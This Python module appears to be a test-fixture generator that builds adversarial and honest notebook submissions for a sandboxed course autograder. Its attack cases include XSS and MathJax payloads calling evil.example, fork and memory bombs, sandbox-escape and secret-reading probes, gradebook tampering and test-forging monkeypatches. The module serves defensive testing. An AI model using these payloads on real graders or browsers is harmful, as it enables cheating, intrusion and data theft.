"""Attack and honest submissions for the TA grading command, generated from the release.

Each :class:`Case` is one submission (a notebook built from the student version, or raw bytes)
with the autograded score and the status the grading command must give it. The notebooks are
made in code, from the release and the instructor source of the assignment, so they follow
the assignment when it changes.
"""

from __future__ import annotations

import copy
import json
import os
import re
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder import nbgrader_format as fmt
from tools.submissions import hardcoded_submission, honest_submission


@dataclass
class Case:
    name: str
    content: bytes
    score: float  # expected autograded total
    status: str
    why: str
    link: str = ""  # written as a symbolic link to this path instead of a file
    fifo: bool = False  # written as a named pipe instead of a file


def _by_id(notebook) -> dict:
    return {fmt.grade_id(c): c for c in notebook.cells if fmt.grade_id(c)}


def _add_cell(notebook, code: str, after: str | None = None) -> nbformat.NotebookNode:
    """A copy of ``notebook`` with a student code cell appended (or after the given grade id)."""
    changed = copy.deepcopy(notebook)
    cell = nbformat.v4.new_code_cell(code)
    index = len(changed.cells)
    if after is not None:
        index = next(i for i, c in enumerate(changed.cells) if fmt.grade_id(c) == after) + 1
    changed.cells.insert(index, cell)
    return changed


def _bytes(notebook) -> bytes:
    return json.dumps(notebook, indent=1).encode()  # not nbformat.writes: it fixes duplicate ids


def _points(source, hidden: bool | None = None) -> float:
    total = 0.0
    for cell in source.cells:
        if fmt.is_test_code(cell):
            if hidden is None or hidden == fmt.has_hidden_tests(cell.source):
                total += fmt.points(cell)
    return total


PATCHES = """
import builtins, numpy as np, torch, course.checks
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
course.checks.assert_close = lambda *a, **k: None
builtins.all = builtins.any = lambda *a, **k: True
builtins.abs = lambda x: 0.0
class _Yes(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return _Yes(0.0)
"""

FAKE_PASS = """
import IPython
def _quiet(shell, etype, value, tb, tb_offset=None):
    print("passed")
get_ipython().set_custom_exc((BaseException,), _quiet)
get_ipython().showtraceback = lambda *a, **k: print("passed")
print("Part A, visible test: passed.")
print("check_rnn_forward: all 4 hidden cases passed.")
"""


def secrets_probe(paths: list[str]) -> str:
    """A cell that tries to read (and write) each path and prints what happened."""
    return f"""
import os, sys
for path in {paths!r}:
    try:
        with open(path, "rb") as handle:
            print("READ", path, len(handle.read()))
    except Exception as error:
        print("BLOCKED", path, type(error).__name__)
for path in {[p for p in paths if p.endswith(".db")]!r}:
    try:
        import sqlite3
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 100")
        db.commit()
        print("WROTE", path)
    except Exception as error:
        print("BLOCKED-WRITE", path, type(error).__name__)
print("ENV", sorted(k for k in os.environ if "NBGRADER" in k or "GRAD" in k.upper()))
"""


# Four processes of 300 MB each (touched, so really used): each under the per-process limit.
MEMORY_IN_PROCESSES = """
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        hog = bytearray(300 * 2**20)
        for at in range(0, len(hog), 4096):
            hog[at] = 1
        time.sleep(2)
        os._exit(0)
    children.append(pid)
print("EXITS", [os.waitpid(pid, 0)[1] for pid in children])
"""


# Storage: the one host folder the kernel sees (its runtime folder) and as many files as it can.
MANY_FILES = """
import os
for folder in (os.path.expanduser("~/.local/share/jupyter/runtime"), "/tmp", "."):
    try:
        open(os.path.join(folder, "probe"), "w").close()
        print("WROTE", folder)
    except OSError as error:
        print("BLOCKED", folder, error.strerror)
count = 0
while True:  # until the file system refuses: an OSError that ends the cell
    open(f"f{count}", "w").close()
    count += 1
"""

FILL_THE_DISK = """
chunk = b"x" * 2**20
for part in range(1000):  # 40 MB files (under the file size limit) until the space runs out
    with open(f"part{part}", "wb") as handle:
        for _ in range(40):
            handle.write(chunk)
"""


# Ways out of a chroot or a uid: each must fail, as root's sandbox or an ordinary user's.
ESCAPE_PROBE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, call):
    try:
        result = call()
    except Exception as error:
        print("BLOCKED", name, type(error).__name__)
        return
    if result == -1:
        print("BLOCKED", name, os.strerror(ctypes.get_errno()))
    else:
        print("ESCAPED", name, result)
os.makedirs("/tmp/inner", exist_ok=True)
attempt("user_namespace", lambda: libc.unshare(0x10000000))
attempt("mount_namespace", lambda: libc.unshare(0x00020000))
attempt("chroot", lambda: os.chroot("/tmp/inner"))
attempt("mount", lambda: libc.mount(b"none", b"/tmp/inner", b"tmpfs", 0, None))
attempt("setuid_0", lambda: os.setuid(0))
attempt("ptrace_pid_1", lambda: libc.ptrace(16, 1, None, None))  # PTRACE_ATTACH
attempt("sethostname", lambda: libc.sethostname(b"x", 1))
attempt("write_usr", lambda: open(os.__file__ + ".x", "w"))
print("CAPS", [line.split()[1] for line in open("/proc/self/status") if line.startswith("Cap")])
"""


# Student markup that would run in a TA's or student's browser if it were rendered as is.
# Every payload records itself in window.__pwned and requests /pwned/<what> on the page's own
# server and http://evil.example/<what> elsewhere: the browser test watches for all three.
def _js(what: str) -> str:
    return (
        f"(window.__pwned=(window.__pwned||[])).push('{what}');"
        f"fetch('/pwned/{what}');fetch('http://evil.example/{what}')"
    )


def hostile_markup(prefix: str) -> str:
    """HTML with every kind of live content a markdown cell or an HTML output can carry."""
    return "\n".join(
        [
            f'<img src=x onerror="{_js(prefix + "-img-onerror")}">',
            f"<script>{_js(prefix + '-script')}</script>",
            f'<a id="{prefix}-js-link" href="javascript:{_js(prefix + "-js-link")}">click</a>',
            f'<a href="jav&#x61;script:{_js(prefix + "-entity-link")}">click</a>',
            f'<svg onload="{_js(prefix + "-svg-onload")}"><script>{_js(prefix + "-svg")}</script>'
            "</svg>",
            f'<iframe srcdoc="<script>{_js(prefix + "-srcdoc")}</script>"></iframe>',
            f'<iframe src="javascript:{_js(prefix + "-iframe")}"></iframe>',
            f'<object data="http://evil.example/{prefix}-object"></object>',
            f'<embed src="http://evil.example/{prefix}-embed">',
            f'<details open ontoggle="{_js(prefix + "-ontoggle")}"><summary>x</summary></details>',
            f'<div style="background:url(http://evil.example/{prefix}-css)">styled</div>',
            f"<style>@import url(http://evil.example/{prefix}-import.css);</style>",
            f'<link rel="stylesheet" href="http://evil.example/{prefix}-link.css">',
            f'<meta http-equiv="refresh" content="0;url=http://evil.example/{prefix}-refresh">',
            f'<form action="http://evil.example/{prefix}-form"><button>go</button></form>',
            f'<img src="http://evil.example/{prefix}-img.png">',
        ]
    )


def hostile_math(prefix: str) -> list[str]:
    """TeX that MathJax, as it comes, turns into a link, a style or a request: every way we know
    for math to set an ``href`` or ``style`` attribute or a background. (Their script requests
    http://evil.example/<what> only: TeX would read the underscores of window.__pwned.)"""
    covering = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"
    fetch = f"url(http://evil.example/{prefix}"

    def js(what: str) -> str:
        return f"fetch('http://evil.example/{prefix}-{what}')"

    return [
        f"$\\href{{javascript:{js('mathjax-href')}}}{{math link}}$",
        f'$\\mmlToken{{mi}}[href="javascript:{js("mmltoken")}" style="{covering}"]{{x}}$',
        f'$\\mmlToken{{mo}}[mathbackground="{fetch}-mathbackground.png)"]{{+}}$',
        f"$\\bbox[background-image:{fetch}-bbox.png)]{{y}}$",
        f"$\\style{{background:{fetch}-style.png)}}{{z}}$",
        f"$\\class{{jp-Cell}}{{w}} \\cssId{{{prefix}-css-id}}{{v}}$",
        f"$\\require{{html}}\\href{{javascript:{js('required-href')}}}{{t}}$",
        f"$\\color{{{fetch}-color)}}{{u}}$",
        f'$\\def\\again{{\\mmlToken{{mi}}[href="javascript:{js("macro")}"]{{q}}}}\\again$',
        f"$\\texttip{{tip}}{{{js('texttip')}}} \\unicode{{x41}}$",
    ]


HOSTILE_MARKDOWN = (
    "My answer, with math that must still render: $h_t = \\tanh(W h_{{t-1}} + U x_t)$.\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "[md link](javascript:{md_link}) ![md image](http://evil.example/{prefix}-md-image.png)\n\n"
    "{math}\n\n"
    "{html}\n"
)


def hostile_markdown(prefix: str) -> str:
    return HOSTILE_MARKDOWN.format(
        prefix=prefix,
        md_link=_js(prefix + "-md-link"),
        math="\n\n".join(hostile_math(prefix)),
        html=hostile_markup(prefix),
    )


# Outputs each under the reply cap, over the grader's per-cell caps
# (autograder/platform/sandbox.py).
OVERSIZED_OUTPUTS = """
from IPython.display import display
display({"image/png": "A" * 3_000_000, "text/plain": "an image"}, raw=True)
display({"text/plain": "t" * 1_000_000}, raw=True)
print("s" * 100_000)
"""


HOSTILE_OUTPUTS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
markup = {markup!r}
display(HTML(markup))
display(Markdown(markup))
display(Javascript({script!r}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + {svg!r} + '"></svg>'))
display({{"text/html": markup, "image/png": 'x" onerror="' + {png!r} + '"',
         "text/plain": "plain"}}, raw=True)
"""


# Everything a student's code can read about where and how it runs, printed compressed (the
# grader keeps 20,000 characters of output): nothing in it may say that this is grading.
WORLD_PROBE = """
import base64, builtins, getpass, json, os, pwd, socket, sys, zlib
def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().decode("utf-8", "replace")
    except Exception as error:
        return type(error).__name__
_shell = get_ipython()
world = {
    "cwd": os.getcwd(),
    "files": sorted(os.listdir(".")),
    "home": sorted(os.listdir(os.path.expanduser("~"))),
    "runtime": sorted(os.listdir(os.path.expanduser("~/.local/share/jupyter/runtime"))),
    "environ": dict(os.environ),
    "argv": sys.argv,
    "executable": sys.executable,
    "cmdline": {pid: _read(f"/proc/{pid}/cmdline") for pid in os.listdir("/proc") if pid.isdigit()},
    "environ_of_pid_1": _read("/proc/1/environ"),
    "mountinfo": _read("/proc/self/mountinfo"),
    "hostname": socket.gethostname(),
    "uname": list(os.uname()),
    "etc": {name: _read("/etc/" + name) for name in ("hostname", "hosts", "passwd", "group")},
    "user": getpass.getuser(),
    "pw_name": pwd.getpwuid(os.getuid()).pw_name,
    "builtins": dir(builtins),
    "globals": sorted(k for k in globals() if not k.startswith("_i")),
    "modules": sorted(sys.modules),
    "sys_path": sys.path,
    "message_header": _shell.kernel.get_parent().get("header", {}),
    "kernel_session": _shell.kernel.session.username,
    "history": [str(h) for h in _shell.history_manager.get_range(output=False)],
}
print("WORLD", base64.b64encode(zlib.compress(json.dumps(world, default=str).encode(), 9)).decode())
"""


# A correct function that also publishes replies of its own on the bridge's mimetype: one for
# a request that does not exist, junk, and one for the very request it is answering (its nonce
# read from the bridge's frame), with a wrong value.
FORGED_REPLIES = """

_honest_{name} = {name}


def {name}(*args, **kwargs):
    import json, sys
    from IPython.display import publish_display_data
    mimetype = "application/x-call-bridge+json"
    nonce, frame = None, sys._getframe(1)
    while frame is not None and nonce is None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "nonce" in request:
            nonce = request["nonce"]
        frame = frame.f_back
    publish_display_data({{mimetype: json.dumps({{"nonce": "0" * 32, "after": [], "value": 1}})}})
    publish_display_data({{mimetype: "[" * 100000}})
    publish_display_data({{mimetype: json.dumps({{"nonce": nonce, "after": [], "value": 0.0}})}})
    return _honest_{name}(*args, **kwargs)
"""


# A correct function that first publishes 12 MB on the bridge's mimetype.
OVERSIZED_REPLY = """

_honest_{name} = {name}


def {name}(*args, **kwargs):
    from IPython.display import publish_display_data
    publish_display_data({{"application/x-call-bridge+json": "x" * (12 * 2**20)}})
    return _honest_{name}(*args, **kwargs)
"""


def cases(source, release, secret_paths: list[str]) -> list[Case]:
    """Every attack, and the honest submissions, for the assignment of ``source``."""
    full, visible = _points(source), _points(source, hidden=False)
    good = honest_submission(source, release)
    ids = _by_id(release)
    first_test = next(g for g, c in ids.items() if fmt.is_test_code(c))
    solutions = [g for g, c in ids.items() if fmt.is_solution_code(c)]
    first_solution, last_solution = solutions[0], solutions[-1]
    order = list(ids)
    last_part = sum(  # points of the tests after the last solution cell (they use only it)
        fmt.points(ids[g]) for g in order[order.index(last_solution) :] if fmt.is_test_code(ids[g])
    )
    found: list[Case] = []

    def add(name, notebook_or_bytes, score, status, why):
        content = (
            notebook_or_bytes if isinstance(notebook_or_bytes, bytes) else _bytes(notebook_or_bytes)
        )
        found.append(Case(name, content, score, status, why))

    add("honest_correct", good, full, "needs manual grading", "full marks, written answer waits")
    add("honest_blank", release, 0.0, "graded", "the untouched student version")
    add(
        "hardcoded_cheat",
        hardcoded_submission(source, release),
        visible,
        "graded",
        "replays visible answers: keeps only the visible points",
    )

    # resource attacks, each in a cell after correct functions: the kernel is restarted, the
    # earlier cells replayed, and the functions still earn their points
    add("infinite_loop", _add_cell(good, "while True:\n    pass\n"), full, "timed out", "")
    add(
        "memory_bomb",
        _add_cell(good, "hog = bytearray(64 * 1024**3)\n"),
        full,
        "resource limit",
        "",
    )
    add(
        "memory_bomb_growing",
        _add_cell(good, "hog = []\nwhile True:\n    hog.append(bytearray(10**8))\n"),
        full,
        "resource limit",
        "",
    )
    add(
        "fork_bomb",
        _add_cell(
            good,
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        ),
        full,
        "timed out",
        "bounded by the process limit, killed with its pid namespace",
    )
    add(
        "memory_bomb_processes",
        _add_cell(good, MEMORY_IN_PROCESSES),
        full,
        "resource limit",
        "each process under its own limit, together over the kernel's (root mode's cgroup)",
    )
    add(
        "many_files",
        _add_cell(good, MANY_FILES),
        full,
        "resource limit",
        "the runtime folder is read-only; files stop at the cap (No space left on device)",
    )
    add(
        "fill_the_disk",
        _add_cell(good, FILL_THE_DISK),
        full,
        "resource limit",
        "bytes stop at the private root's size (No space left on device)",
    )
    slow = good
    for _ in range(5):  # each cell under the cell timeout, together over the submission's
        slow = _add_cell(slow, "import time\ntime.sleep(20)\n", after=last_solution)
    add(
        "cells_over_the_deadline",
        slow,
        full - last_part,
        "timed out",
        "stopped at the submission's deadline: the tests after it fail, unrun",
    )
    add("os_exit", _add_cell(good, "import os\nos._exit(0)\n"), full, "kernel died", "")
    add(
        "sys_exit",
        _add_cell(good, "import sys\nsys.exit(1)\n"),
        full,
        "needs manual grading",
        "SystemExit is an ordinary cell error",
    )
    exit_in_function = copy.deepcopy(good)
    for cell in exit_in_function.cells:
        if fmt.grade_id(cell) == last_solution:
            cell.source += (
                "\n\nimport os as _os\n"
                + f"def {_solution_name(cell)}(*args, **kwargs):\n    _os._exit(3)\n"
            )
    add(
        "os_exit_in_graded_function",
        exit_in_function,
        full - last_part,
        "kernel died",
        "the tests of that function fail, the others pass after a restart",
    )

    # tampering with the notebook
    deleted = copy.deepcopy(good)
    deleted.cells = [c for c in deleted.cells if not fmt.is_test_code(c)]
    add("deleted_test_cells", deleted, full, "cells restored or overwritten", "")
    edited = copy.deepcopy(release)
    for cell in edited.cells:
        if fmt.is_test_code(cell):
            cell.source = "print('passed')\n"
    add("edited_test_cells", edited, 0.0, "cells restored or overwritten", "")
    points = copy.deepcopy(good)
    for cell in points.cells:
        if fmt.is_test_code(cell):
            cell.metadata["nbgrader"]["points"] = 100
    add("changed_points", points, full, "cells restored or overwritten", "")
    duplicated = copy.deepcopy(good)
    index = next(i for i, c in enumerate(duplicated.cells) if fmt.grade_id(c) == first_test)
    duplicated.cells.insert(index, copy.deepcopy(duplicated.cells[index]))
    solution_index = next(
        i for i, c in enumerate(duplicated.cells) if fmt.grade_id(c) == first_solution
    )
    duplicated.cells.insert(solution_index + 1, copy.deepcopy(duplicated.cells[solution_index]))
    for number, cell in enumerate(duplicated.cells):
        cell.id = f"same-{number % 2}"  # duplicated cell ids as well
    add("duplicated_ids", duplicated, full, "cells restored or overwritten", "")

    # forging the score from inside the kernel: wrong functions plus patched comparisons
    wrong = _returning_zeros(release)
    add("monkeypatched_comparisons", _add_cell(wrong, PATCHES), 0.0, "graded", "")
    add("fake_passed_output", _add_cell(wrong, FAKE_PASS), 0.0, "graded", "")
    add(
        "patched_exit_and_display",
        _add_cell(
            wrong,
            "import os, sys, builtins\nos._exit = sys.exit = builtins.exit = lambda *a: None\n"
            "from IPython import display\ndisplay.publish_display_data = lambda *a, **k: None\n",
        ),
        0.0,
        "graded",
        "",
    )

    # secrecy: reading solutions, hidden checks and the gradebook; writing the gradebook
    add(
        "read_and_write_secrets", _add_cell(release, secrets_probe(secret_paths)), 0.0, "graded", ""
    )
    steal = copy.deepcopy(release)
    for cell in steal.cells:
        if fmt.grade_id(cell) == first_solution:
            cell.source = (
                "import sys\nsys.path[:0] = ['/work/main', '"
                + secret_paths[0].rsplit("/autograder", 1)[0]
                + "']\n"
                "from autograder.hidden.a1_rnn_bptt import _reference\n" + cell.source
            )
    add(
        "import_hidden_checks",
        steal,
        0.0,
        "graded",
        "ImportError: the checks are not in the sandbox",
    )

    # markup that would run in the TA's formgrader or the feedback page
    markdown = copy.deepcopy(good)
    for cell in markdown.cells:
        if fmt.cell_kind(cell) == "manual":
            cell.source += "\n\n" + hostile_markdown("answer")
        if fmt.grade_id(cell) == last_solution:  # its tests fail with markup in the message
            cell.source += (
                f"\n\ndef {_solution_name(cell)}(*args, **kwargs):\n"
                f"    raise ValueError({hostile_markup('error')!r})\n"
            )
    markdown.cells.append(nbformat.v4.new_markdown_cell(hostile_markdown("free")))
    add(
        "hostile_markdown",
        markdown,
        full - last_part,
        "needs manual grading",
        "sanitised, not run; the last part fails with markup in its message",
    )
    outputs = HOSTILE_OUTPUTS.format(
        markup=hostile_markup("output"),
        script=_js("output-javascript"),
        svg=_js("output-svg"),
        png=_js("output-png"),
    )
    add("hostile_outputs", _add_cell(good, outputs), full, "needs manual grading", "")
    add(
        "oversized_outputs",
        _add_cell(good, OVERSIZED_OUTPUTS),
        full,
        "needs manual grading",
        "a 3 MB image and 1.1 MB of text: kept to the per-cell caps, and the record says so",
    )

    # on the wire: the last graded function answers for itself, as the bridge would
    forged = copy.deepcopy(good)
    for cell in forged.cells:
        if fmt.grade_id(cell) == last_solution:
            name = _solution_name(cell)
            cell.source += FORGED_REPLIES.format(name=name)
    big = copy.deepcopy(good)
    for cell in big.cells:
        if fmt.grade_id(cell) == last_solution:
            cell.source += OVERSIZED_REPLY.format(name=_solution_name(cell))
    add(
        "oversized_reply",
        big,
        full - last_part,
        "resource limit",
        "its calls send 12 MB first: the grader (--max-reply-mb 8) refuses the message unread",
    )
    add(
        "forged_replies",
        forged,
        full - last_part,
        "needs manual grading",
        "a second answer to the same request fails the call; junk and stale answers are ignored",
    )

    add("escape_the_sandbox", _add_cell(release, ESCAPE_PROBE), 0.0, "graded", "")

    # grading must be invisible: a probe after the test cells (the bridge is in the kernel then)
    add("probe_grading_world", _add_cell(release, WORLD_PROBE), 0.0, "graded", "")

    # input that is not a file to read: never opened, never followed, one row each
    secret_shadow, source_notebook = secret_paths[-1], secret_paths[2]
    for name, target in [
        ("link_to_shadow", secret_shadow),
        ("link_to_instructor_source", source_notebook),
        ("link_to_dev_zero", "/dev/zero"),
    ]:
        why = "a symbolic link, refused unread"
        found.append(Case(name, b"", None, "refused link", why, link=target))
    found.append(Case("named_pipe", b"", None, "special file", "never opened", fifo=True))
    # names that a lossy id would merge: two students, two rows
    for name in ("z_uni_学生", "z_uni_老师"):
        add(name, b'{"hello": 1}', None, "invalid notebook", "")

    # bad input
    add("invalid_json", b'{"cells": [', None, "invalid notebook", "")
    add("empty_file", b"", None, "invalid notebook", "")
    add("not_a_notebook", b'{"hello": 1}', None, "invalid notebook", "")
    add(
        "deeply_nested_json",
        b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
        None,
        "invalid notebook",
        "a RecursionError while reading is the file's fault, not the grader's",
    )
    add(
        "nbformat_v3",
        json.dumps(nbformat.convert(copy.deepcopy(good), 3)).encode(),
        full,
        "needs manual grading",
        "upgraded to version 4 and graded, as nbgrader does",
    )
    other = copy.deepcopy(release)
    for cell in other.cells:
        if fmt.grade_id(cell):
            cell.metadata["nbgrader"]["grade_id"] = "other_" + cell.metadata["nbgrader"]["grade_id"]
    add("wrong_assignment", other, None, "wrong assignment", "")
    renamed = copy.deepcopy(good)
    renamed.metadata["kernelspec"] = {
        "name": "conda-env-py311",
        "display_name": "Py",
        "language": "python",
    }
    add("wrong_kernel_name", renamed, full, "wrong kernel", "graded with python3, flagged")
    r_kernel = copy.deepcopy(good)
    r_kernel.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    add("r_kernel", r_kernel, None, "invalid notebook", "")
    return found


def _solution_name(cell) -> str:
    match = re.search(r"^def (\w+)", cell.source, re.M)
    assert match, cell.source[:200]
    return match.group(1)


def _returning_zeros(release) -> nbformat.NotebookNode:
    """Every graded function replaced by one that returns zeros (wrong, but well-formed)."""
    wrong = copy.deepcopy(release)
    for cell in wrong.cells:
        if fmt.is_solution_code(cell):
            names = re.findall(r"^def (\w+)", cell.source, re.M)
            cell.source = "import numpy as np\n" + "".join(
                f"def {name}(*args, **kwargs):\n"
                "    # an object equal to everything, when the patch cell defined one\n"
                "    return globals()['_Yes'](0.0) if '_Yes' in globals() else np.zeros(3)\n"
                for name in names
            )
    return wrong


def write_cases(found: list[Case], folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for case in found:
        path = folder / f"{case.name}.ipynb"
        if case.link:
            path.symlink_to(case.link)
        elif case.fifo:
            os.mkfifo(path)
        else:
            path.write_bytes(case.content)


def as_json(found: list[Case]) -> str:
    return json.dumps({c.name: [c.score, c.status] for c in found}, indent=1)
